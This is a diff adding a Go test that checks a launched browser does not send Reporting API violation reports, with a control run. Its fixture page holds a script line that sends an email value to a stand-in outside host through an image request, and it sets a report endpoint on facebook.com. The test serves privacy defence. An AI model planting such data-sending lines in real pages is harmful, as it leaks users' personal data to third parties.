@@ -1,6 +1,7 @@
 package chrome
 
 import (
+	"net/http"
 	"strings"
 	"testing"
 	"time"
@@ -80,6 +81,43 @@ func TestEnds(t *testing.T) {
 			t.Logf("got out: %v", got)
 			if len(got) > 0 {
 				t.Errorf("got out: %v", got)
+			}
+		})
+	}
+}
+
+// TestReports: the browser sends reports of its own for a page (Reporting API), up
+// to a minute later, which belong to no request that anybody could ask about. They
+// are switched off; the control shows that they would leave.
+func TestReports(t *testing.T) {
+	if !*thorough {
+		t.Skip("takes two more browsers: run with -thorough")
+	}
+	for name, off := range map[string]locks{"launch": 0, "control": lockBrakes | lockOutlet} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			o := options(t)
+			w, err := serveWeb()
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer w.close()
+			w.server.Handler = http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
+				rw.Header().Set("Reporting-Endpoints", `e="https://www.facebook.com/sent/report"`)
+				rw.Header().Set("Content-Security-Policy", `img-src 'none'; report-to e`)
+				w.ServeHTTP(rw, r)
+			})
+			o.Args, o.off = append(w.args(), "short-reporting-delay"), off
+			b := started(t, o)
+			if err := b.Open(t.Context(), w.page(`<script>new Image().src = 'https://elsewhere.example/x?`+email+`'</script>`)); err != nil {
+				t.Fatal(err)
+			}
+			left := func() bool { return w.counted()["report"] > 0 }
+			if off == 0 && !quiet(t, 3*time.Second, left) {
+				t.Error("a report left")
+			}
+			if off != 0 {
+				until(t, 10*time.Second, "a report leaves, or this proves nothing", left)
 			}
 		})
 	}
